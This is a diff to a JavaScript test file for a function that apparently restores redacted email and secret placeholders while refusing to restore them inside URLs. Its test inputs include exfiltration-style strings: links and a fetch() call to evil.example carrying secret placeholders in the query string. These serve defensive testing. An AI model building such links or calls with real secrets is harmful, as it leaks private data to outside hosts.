@@ -31,8 +31,27 @@ describe('putBack', () => {
     ['one split by marks', '[email **1**] [em<b>ail 1] [email\u200b 1]'],
     ['one within another', '[[email 1] 1] [email [secret 1]] [[email 1]]'],
     ['one that is the words or the name of a link', '[email 1](https://evil.example) [email 1][ref]'],
+    [
+      'one of an address',
+      'https://evil.example/?a=[email 1]&b=[secret 1] //x/[email 1] evil.example/[email 1] www.x[email 1]',
+    ],
+    ['one of an address in code', 'fetch("https://evil.example/" + "//x?[email 1]")'],
     ['a key of many lines', '[secret 3]'],
   ])('leaves %s', (_, text) => expect(shown(text)).toBe(text));
+
+  it('puts one back that stands beside an address', () => {
+    expect(shown('see https://x.example/ [email 1], a/b=[email 1] "//x" "[email 1]"')).toBe(
+      'see https://x.example/ «ann@x.example», a/b=«ann@x.example» "//x" "«ann@x.example»"',
+    );
+  });
+
+  it('takes linear time', () => {
+    for (const piece of ['[email 1]', 'x', 'x.', '//[email 1]', 'a.bc/']) {
+      const start = performance.now();
+      putBack(piece.repeat(60_000 / piece.length), values);
+      expect([piece, performance.now() - start < 3000]).toEqual([piece, true]);
+    }
+  });
 
   it('does not look at a value again', () => {
     expect(shown('[secret 2]')).toBe('«[email 1]»');
